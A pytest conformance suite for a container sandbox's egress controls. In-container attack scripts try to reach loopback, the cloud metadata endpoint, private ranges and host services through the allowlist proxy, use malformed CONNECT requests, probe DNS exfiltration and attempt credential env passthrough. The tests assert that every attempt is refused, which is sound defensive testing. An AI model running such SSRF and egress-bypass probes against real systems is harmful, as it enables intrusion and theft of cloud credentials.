"""Conformance, egress: the allowlist proxy, the host firewall, DNS and passed-through env.

Like tests/test_conformance.py, each attack runs as a script inside a real
task container, through a real `cbox serve`; it prints `BREACH: ...` for
anything that worked and `held: ...` for each attempt that was stopped. The
proxy's refusals are also checked by the reason they give (`egress_denied`
events), so a request refused by accident (nothing listening) does not count
as held by design.
"""

from __future__ import annotations

import asyncio
import json
import os
import subprocess
import sys
import time
from collections.abc import AsyncIterator, Callable
from pathlib import Path
from typing import Any

import aiodocker
import pytest

from cbox.orchestrator.container import NON_FORWARDING_DNS
from cbox.orchestrator.dnsprobe import engine_affected
from tests.conftest import WORKSPACE_GID, WORKSPACE_UID
from tests.fakes.dns import FakeDns
from tests.orch import FAKE_KEY, Orchestrator

pytestmark = [pytest.mark.docker]

PY = 'agent = "command"\ncommand = ["python3", "/workspace/attack.py"]\ntimeout_s = 120\n'
POLICIES = {
    "egress": PY + 'network = "allowlist"\n'
    'allow_hosts = ["127.0.0.1", "localhost", "*.cbox-test"]\n'
    'allow_ports = ["1024-65535", 443]\n',
    # Names only: what a listed name resolves to is not thereby listed.
    "egress-names": PY + 'network = "allowlist"\nallow_hosts = ["localhost", "*.cbox-test"]\n'
    'allow_ports = ["1024-65535", 443]\n',
    "egress-443": PY + 'network = "allowlist"\nallow_hosts = ["127.0.0.1", "localhost"]\n',
    "probe": PY,
}

#: Sends one raw request line to the task's proxy; prints what came back.
RAW = r'''
import os, socket

PROXY = os.environ.get("HTTPS_PROXY", "http://none:0").split("//", 1)[1]
HOST, PORT = PROXY.rsplit(":", 1)


def through(line):
    """'through: <body>' if the proxy tunnelled and the far end answered, else 'status: ...'."""
    s = socket.create_connection((HOST, int(PORT)), timeout=10)
    s.sendall(line.encode("utf-8") + b"\r\nHost: x\r\n\r\n")
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = s.recv(4096)
        if not chunk:
            break
        head += chunk
    status = head.split(b"\r\n", 1)[0].decode("latin-1")
    if not status.startswith("HTTP/1.1 200"):
        return "status: " + status
    s.sendall(b"GET / HTTP/1.0\r\nHost: x\r\n\r\n")
    body = b""
    try:
        while chunk := s.recv(4096):
            body += chunk
    except OSError:
        pass
    return "through: " + body.decode("latin-1")[-200:].replace("\r\n", " ")


def attempt(label, line, allowed=False):
    out = through(line)
    if out.startswith("through"):
        print(("allowed: " if allowed else "BREACH: ") + label + " " + out, flush=True)
    else:
        print(("BREACH-ish: refused " if allowed else "held: ") + label, flush=True)
'''


def write_script(workspace: Path, body: str) -> None:
    path = workspace / "attack.py"
    path.write_text(RAW + body)
    os.chown(path, WORKSPACE_UID, WORKSPACE_GID)


class HostService:
    """A TCP service on the host, on all interfaces, that counts who got in."""

    def __init__(self, *, answer: bool = True) -> None:
        self.answer = answer
        self.accepted = 0
        self.open = 0
        self.closed = asyncio.Event()
        self.port = 0
        self._server: asyncio.Server | None = None

    async def start(self, host: str = "0.0.0.0") -> None:
        self._server = await asyncio.start_server(self._serve, host, 0)
        self.port = int(self._server.sockets[0].getsockname()[1])

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.accepted += 1
        self.open += 1
        try:
            if self.answer:
                await reader.readuntil(b"\r\n\r\n")
                writer.write(b"HTTP/1.0 200 OK\r\nContent-Length: 6\r\n\r\nhello\n")
                await writer.drain()
            else:
                while await reader.read(4096):
                    pass
        except (OSError, asyncio.IncompleteReadError):
            pass
        finally:
            writer.close()
            self.open -= 1
            if self.open == 0:
                self.closed.set()

    def close(self) -> None:
        if self._server is not None:
            self._server.close()


@pytest.fixture
async def service() -> AsyncIterator[HostService]:
    svc = HostService()
    await svc.start()
    yield svc
    svc.close()


@pytest.fixture
async def box(orchestrator_factory: type[Orchestrator], workspace: Path) -> Orchestrator:
    orch = orchestrator_factory(
        workspace=workspace, policies=POLICIES, env={"CBOX_EGRESS_IDLE_S": "2"}
    )
    await orch.start()
    return orch


async def run_script(
    box: Orchestrator, workspace: Path, policy: str, body: str
) -> tuple[list[str], list[dict[str, Any]]]:
    write_script(workspace, body)
    task = await box.submit("attack", policy=policy)
    events = [e async for e in box.events(task["id"])]
    lines = [str(e.data.get("line", "")) for e in events if e.type in ("output", "stderr")]
    breaches = [line for line in lines if line.startswith("BREACH")]
    assert breaches == [], (breaches, lines)
    return lines, [e.data for e in events if e.type == "egress_denied"]


def held(lines: list[str]) -> list[str]:
    return [line[len("held: "):] for line in lines if line.startswith("held: ")]


def assert_reasons(denials: list[dict[str, Any]], expected: dict[str, str]) -> None:
    """Each target was refused, and for the reason named (a substring)."""
    reasons = {d["target"]: d["reason"] for d in denials}
    for target, needle in expected.items():
        assert target in reasons, (target, denials)
        assert needle in reasons[target], (target, reasons[target])


async def test_listed_names_and_literals_pointing_inside_are_refused(
    box: Orchestrator, workspace: Path, service: HostService
) -> None:
    p = service.port
    lines, denials = await run_script(box, workspace, "egress-names", f"""
attempt("listed name resolving to loopback", "CONNECT localhost:{p} HTTP/1.1")
attempt("ipv4-mapped loopback", "CONNECT [::ffff:127.0.0.1]:{p} HTTP/1.1")
attempt("ipv6 loopback", "CONNECT [::1]:{p} HTTP/1.1")
attempt("unspecified", "CONNECT 0.0.0.0:{p} HTTP/1.1")
attempt("other loopback", "CONNECT 127.0.0.2:{p} HTTP/1.1")
attempt("metadata", "CONNECT 169.254.169.254:443 HTTP/1.1")
attempt("metadata v6", "CONNECT [fd00:ec2::254]:443 HTTP/1.1")
attempt("cgnat", "CONNECT 100.64.0.1:443 HTTP/1.1")
attempt("decimal loopback", "CONNECT 2130706433:{p} HTTP/1.1")
""")
    assert len(held(lines)) == 9, lines
    assert service.accepted == 0
    assert_reasons(denials, {
        f"localhost:{p}": "localhost resolves to 127.0.0.1 is a loopback",
        f"[::ffff:127.0.0.1]:{p}": "IPv4-mapped form of a loopback",
        f"[::1]:{p}": "loopback",
        f"0.0.0.0:{p}": "unspecified",
        f"127.0.0.2:{p}": "loopback",
        "169.254.169.254:443": "link-local",
        "[fd00:ec2::254]:443": "private",
        "100.64.0.1:443": "CGNAT",
        f"2130706433:{p}": "not on the allowlist",
    })


async def test_listed_hosts_on_unlisted_ports_are_refused(
    box: Orchestrator, workspace: Path
) -> None:
    lines, denials = await run_script(box, workspace, "egress-443", f"""
attempt("the orchestrator API", "CONNECT 127.0.0.1:{box.port} HTTP/1.1")
attempt("ssh", "CONNECT 127.0.0.1:22 HTTP/1.1")
attempt("plain http port", "CONNECT localhost:80 HTTP/1.1")
""")
    assert held(lines) == ["the orchestrator API", "ssh", "plain http port"]
    assert_reasons(denials, {
        f"127.0.0.1:{box.port}": f"port {box.port} is not in the policy's allow_ports",
        "127.0.0.1:22": "port 22",
        "localhost:80": "port 80",
    })


async def test_plain_http_and_malformed_requests_are_refused(
    box: Orchestrator, workspace: Path, service: HostService
) -> None:
    p = service.port
    arabic = str(p).translate(str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩"))
    lines, denials = await run_script(box, workspace, "egress", f"""
attempt("absolute-form GET", "GET http://127.0.0.1:{p}/ HTTP/1.1")
attempt("lower-case method", "connect 127.0.0.1:{p} HTTP/1.1")
attempt("no version", "CONNECT 127.0.0.1:{p}")
attempt("bogus version", "CONNECT 127.0.0.1:{p} FOO/1")
attempt("non-ascii digits", "CONNECT 127.0.0.1:{arabic} HTTP/1.1")
attempt("userinfo", "CONNECT x@127.0.0.1:{p} HTTP/1.1")
attempt("no port", "CONNECT 127.0.0.1 HTTP/1.1")
""")
    assert len(held(lines)) == 7, lines
    assert service.accepted == 0
    assert_reasons(denials, {
        f"http://127.0.0.1:{p}/": "only CONNECT",
        f"127.0.0.1:{p}": "malformed request line",
        f"127.0.0.1:{arabic}": "malformed CONNECT target",
        f"x@127.0.0.1:{p}": "malformed CONNECT target",
        "127.0.0.1": "malformed CONNECT target",
    })
    assert [d["reason"] for d in denials].count("malformed request line") == 2
    assert [d["reason"] for d in denials].count("only CONNECT (HTTPS) is proxied") == 2


@pytest.fixture
async def fake_dns() -> AsyncIterator[FakeDns]:
    server = FakeDns({
        "public.cbox-test": ["8.8.8.8"],
        "loop.cbox-test": ["127.0.0.1"],
        "mixed.cbox-test": ["8.8.8.8", "127.0.0.1"],
        "meta.cbox-test": ["169.254.169.254"],
        "mapped.cbox-test": ["::ffff:127.0.0.1"],
        "private.cbox-test": ["10.1.2.3"],
        "multicast.cbox-test": ["224.0.0.251"],
    })
    await server.start()
    yield server
    server.close()


async def test_wildcard_names_are_checked_by_every_address(
    orchestrator_factory: type[Orchestrator], workspace: Path, service: HostService,
    fake_dns: FakeDns,
) -> None:
    box = orchestrator_factory(
        workspace=workspace, policies=POLICIES, env={"CBOX_EGRESS_DNS": fake_dns.address}
    )
    await box.start()
    p = service.port
    lines, denials = await run_script(box, workspace, "egress-names", f"""
attempt("wildcard to loopback", "CONNECT loop.cbox-test:{p} HTTP/1.1")
attempt("one bad answer of two", "CONNECT mixed.cbox-test:{p} HTTP/1.1")
attempt("wildcard to metadata", "CONNECT meta.cbox-test:443 HTTP/1.1")
attempt("wildcard to mapped loopback", "CONNECT mapped.cbox-test:{p} HTTP/1.1")
attempt("wildcard to private", "CONNECT private.cbox-test:443 HTTP/1.1")
attempt("wildcard to multicast", "CONNECT multicast.cbox-test:443 HTTP/1.1")
attempt("wildcard apex", "CONNECT cbox-test:443 HTTP/1.1")
""")
    assert len(held(lines)) == 7, lines
    assert service.accepted == 0
    assert_reasons(denials, {
        f"loop.cbox-test:{p}": "resolves to 127.0.0.1 is a loopback",
        f"mixed.cbox-test:{p}": "resolves to 127.0.0.1",
        "meta.cbox-test:443": "169.254.169.254 is a link-local",
        f"mapped.cbox-test:{p}": "IPv4-mapped",
        "private.cbox-test:443": "private",
        "multicast.cbox-test:443": "multicast",
        "cbox-test:443": "not on the allowlist",
    })
    assert "loop.cbox-test" in fake_dns.asked  # the proxy asked the configured resolver


async def test_tunnels_end_when_idle_and_with_their_task(
    box: Orchestrator, workspace: Path
) -> None:
    silent = HostService(answer=False)
    await silent.start("127.0.0.1")
    try:
        write_script(workspace, f"""
import time
def tunnel():
    s = socket.create_connection((HOST, int(PORT)), timeout=10)
    s.sendall(b"CONNECT 127.0.0.1:{silent.port} HTTP/1.1\\r\\n\\r\\n")
    assert s.recv(4096).startswith(b"HTTP/1.1 200"), "no tunnel"
    return s
s = tunnel()
s.settimeout(20)
start = time.monotonic()
try:
    data = s.recv(1)
except socket.timeout:
    data = None
took = time.monotonic() - start
print("BREACH: idle tunnel still open after 20s" if data is None
      else f"held: idle tunnel closed after {{took:.0f}}s", flush=True)
busy = tunnel()
print("busy tunnel up", flush=True)
while True:  # never idle: only the end of the task may close it
    busy.sendall(b".")
    time.sleep(0.5)
""")
        task = await box.submit("tunnels", policy="egress")
        lines: list[str] = []
        async for event in box.events(task["id"]):
            line = str(event.data.get("line", ""))
            lines.append(line)
            if line == "busy tunnel up":
                break
        assert [line for line in lines if line.startswith("BREACH")] == [], lines
        assert any(line.startswith("held: idle tunnel closed") for line in lines), lines
        assert silent.accepted == 2 and silent.open == 1
        silent.closed.clear()
        await box.request("POST", f"/tasks/{task['id']}/stop")
        await box.wait_done(task["id"])
        await asyncio.wait_for(silent.closed.wait(), 15)  # the task's tunnel ended with it
        assert silent.open == 0
    finally:
        silent.close()


async def wait_for_line(
    box: Orchestrator, task_id: str, match: Callable[[str], bool], *,
    after: int = 0, timeout_s: float = 90,
) -> int:
    """The seq of the first event after `after` whose line matches."""
    async def go() -> int:
        async for event in box.events(task_id, after=after):
            line = str(event.data.get("line", ""))
            assert not line.startswith("BREACH"), line
            if match(line):
                assert event.id is not None
                return event.id
            if event.type == "done":
                raise AssertionError(f"task ended first: {event.data}")
        raise AssertionError("event stream ended")

    return await asyncio.wait_for(go(), timeout_s)


async def test_firewall_never_lapses_while_the_orchestrator_restarts(
    box: Orchestrator, workspace: Path, service: HostService
) -> None:
    stop_file = workspace / "stop-probe"
    write_script(workspace, f"""
import time
gw = os.environ["ANTHROPIC_BASE_URL"].split("//", 1)[1].rsplit(":", 1)[0]
n = 0
print("ready", flush=True)
start = time.monotonic()
while not os.path.exists("/workspace/stop-probe") and time.monotonic() - start < 100:
    try:
        # A short timeout: rejected SYNs are answered by rate-limited ICMP, and a
        # connect on this host that works takes well under a millisecond.
        socket.create_connection((gw, {service.port}), timeout=0.02).close()
        print(f"BREACH: reached a host service after {{n}} attempts", flush=True)
    except OSError as exc:
        if n == 0:
            print("first attempt:", repr(exc), round(time.monotonic() - start, 3), flush=True)
    n += 1
    if n % 200 == 0:
        print(f"tick {{n}}", flush=True)
print(f"held: {{n}} attempts", flush=True)
""")
    task = await box.submit("probe the host", policy="probe")
    await wait_for_line(box, task["id"], lambda line: line.startswith("tick"))
    await box.stop()
    await box.start()
    seq = await wait_for_line(box, task["id"], lambda line: "re-adopted" in line)
    ticks = 0

    def two_ticks(line: str) -> bool:
        nonlocal ticks
        ticks += line.startswith("tick")
        return ticks >= 2

    await wait_for_line(box, task["id"], two_ticks, after=seq)
    stop_file.write_text("")
    done = await box.wait_done(task["id"])
    assert done["state"] == "completed", done
    lines = [
        str(e.data.get("line", "")) async for e in box.events(task["id"]) if e.type == "output"
    ]
    assert [line for line in lines if line.startswith("BREACH")] == []
    assert any(line.startswith("held: ") for line in lines)
    assert service.accepted == 0


async def test_an_adopted_box_that_cannot_be_reconfined_is_stopped(
    box: Orchestrator, workspace: Path, service: HostService
) -> None:
    write_script(workspace, f"""
import time
gw = os.environ["ANTHROPIC_BASE_URL"].split("//", 1)[1].rsplit(":", 1)[0]
print("ready", flush=True)
start = time.monotonic()
while time.monotonic() - start < 100:
    try:
        socket.create_connection((gw, {service.port}), timeout=0.02).close()
        print("BREACH: reached a host service", flush=True)
    except OSError:
        pass
""")
    task = await box.submit("outlive the firewall", policy="probe")
    await wait_for_line(box, task["id"], lambda line: line == "ready")
    await box.stop()
    # The restarted server cannot run iptables: it must not keep the box running.
    box.env["PATH"] = "/nonexistent"
    await box.start()
    done = await box.wait_done(task["id"], timeout_s=60)
    assert done["state"] == "failed", done
    assert "could not re-confine the box after a restart" in done["error"]
    assert service.accepted == 0


async def test_without_a_firewall_confined_tasks_are_refused(
    orchestrator_factory: type[Orchestrator], workspace: Path
) -> None:
    # No iptables on PATH: what a server not run as root, or without iptables, meets.
    orch = orchestrator_factory(
        workspace=workspace, policies=POLICIES,
        env={"PATH": "/nonexistent", "CBOX_HOST_FIREWALL": "auto"},
    )
    await orch.start()
    assert "tasks on gateway/allowlist networks will be refused" in orch.log.read_text()
    for policy in ("probe", "egress"):
        status, body = await orch.request(
            "POST", "/tasks", json={"prompt": "x", "policy": policy}
        )
        assert status == 503, body
        assert "cannot confine task networks (iptables is not installed)" in (
            body["error"]["message"]
        )
    _, listing = await orch.request("GET", "/tasks")
    assert listing["total"] == 0

    off = orchestrator_factory(
        workspace=workspace, policies=POLICIES,
        env={"PATH": "/nonexistent", "CBOX_HOST_FIREWALL": "off"},
    )
    await off.start()
    assert "HOST FIREWALL OFF" in off.log.read_text()
    status, body = await off.request("POST", "/tasks", json={"prompt": "x", "policy": "probe"})
    assert status in (200, 202), body


@pytest.mark.parametrize(
    ("names", "extra_env", "variable"),
    [
        (["ANTHROPIC_API_KEY"], {}, "ANTHROPIC_API_KEY"),
        (["ANTHROPIC_AUTH_TOKEN"], {"ANTHROPIC_AUTH_TOKEN": "tok-123456789"},
         "ANTHROPIC_AUTH_TOKEN"),
        (["CBOX_API_TOKEN"], {}, "CBOX_API_TOKEN"),
        (["LINEAR_API_KEY"], {"LINEAR_API_KEY": "lin_api_123456789"}, "LINEAR_API_KEY"),
        (["HARMLESS", "MY_COPY"], {"HARMLESS": "1", "MY_COPY": FAKE_KEY}, "MY_COPY"),
        (["WRAPPED"], {"WRAPPED": f"Bearer {FAKE_KEY};x"}, "WRAPPED"),
    ],
)
async def test_env_passthrough_of_credentials_is_refused(
    orchestrator_factory: type[Orchestrator], workspace: Path,
    names: list[str], extra_env: dict[str, str], variable: str,
) -> None:
    policy = 'agent = "command"\ncommand = ["env"]\nenv_passthrough = ' + json.dumps(names)
    orch = orchestrator_factory(
        workspace=workspace, policies={"leaky": policy + "\n"}, env=extra_env
    )
    with pytest.raises(RuntimeError, match="cbox serve exited"):
        await orch.start(timeout_s=30)
    text = orch.log.read_text()
    assert "leaky.toml: field env_passthrough" in text, text[-2000:]
    assert variable in text
    assert FAKE_KEY not in text
    assert "Traceback" not in text


async def test_gateway_box_gets_no_dns_answer(box: Orchestrator, workspace: Path) -> None:
    write_script(workspace, """
import secrets, subprocess, time
start = time.monotonic()
while not os.path.exists("/workspace/go") and time.monotonic() - start < 60:
    time.sleep(0.05)
name = "exfil-" + secrets.token_hex(6) + ".example.com"
try:
    print("BREACH: resolved", name, socket.gethostbyname(name), flush=True)
except OSError:
    print("held: embedded resolver", flush=True)
out = subprocess.run(["getent", "hosts", "x" + name], capture_output=True, text=True)
print("BREACH: getent " + out.stdout if out.returncode == 0 else "held: getent", flush=True)
""")
    task = await box.submit("dns", policy="probe")
    running = await box.wait_state(task["id"], {"running"})
    info = json.loads(subprocess.run(
        ["docker", "inspect", running["container_id"]], capture_output=True, check=True,
    ).stdout)[0]
    # The leak's mitigation (CVE-2024-29018): the embedded resolver's upstream is
    # an address the box's namespace has no route to.
    assert info["HostConfig"]["Dns"] == [NON_FORWARDING_DNS]
    (workspace / "go").write_text("")
    events = [e async for e in box.events(task["id"])]
    lines = [str(e.data.get("line", "")) for e in events if e.type in ("output", "stderr")]
    assert [line for line in lines if line.startswith("BREACH")] == [], lines
    assert held(lines) == ["embedded resolver", "getent"], lines


async def test_doctor_reports_the_engine_dns_leak_and_the_mitigation(
    box: Orchestrator, docker: aiodocker.Docker
) -> None:
    started = time.monotonic()
    proc = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "cbox", "doctor", "--server", box.url,
        env=box.env, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT,
    )
    out, _ = await asyncio.wait_for(proc.communicate(), 120)
    text = out.decode()
    assert time.monotonic() - started < 120
    line = next((ln for ln in text.splitlines() if "dns:" in ln), "")
    version = (await docker.system.info())["ServerVersion"]
    if not engine_affected(version):
        assert line.startswith("✓ dns: "), text
        return
    # This machine's engine (Debian's 20.10) is affected; the probe sees it leak
    # and sees a container with the boxes' DNS setting get no answer.
    assert line.startswith(f"! dns: Docker {version} forwards DNS queries"), text
    assert "CVE-2024-29018" in line and "fixed in 23.0.11, 25.0.5, 26.0.0" in line
    assert "reached a listener on this host" in line
    assert f"Mitigated for claude-box boxes: they resolve through {NON_FORWARDING_DNS}" in line
    assert "checked: no answer" in line
    assert "upgrade Docker Engine" in text



async def test_warm_boxes_get_the_same_dns_mitigation(
    orchestrator_factory: type[Orchestrator], workspace: Path
) -> None:
    orch = orchestrator_factory(
        workspace=workspace, env={"CBOX_WARM_POOL": "1", "CBOX_WARM_POOL_MAX": "1"}
    )
    await orch.start()
    deadline = time.monotonic() + 60
    while not (warm := orch.warm_containers("default")):
        assert time.monotonic() < deadline, orch.log.read_text()[-2000:]
        await asyncio.sleep(0.1)
    info = json.loads(subprocess.run(
        ["docker", "inspect", warm[0]], capture_output=True, check=True,
    ).stdout)[0]
    assert info["HostConfig"]["Dns"] == [NON_FORWARDING_DNS]
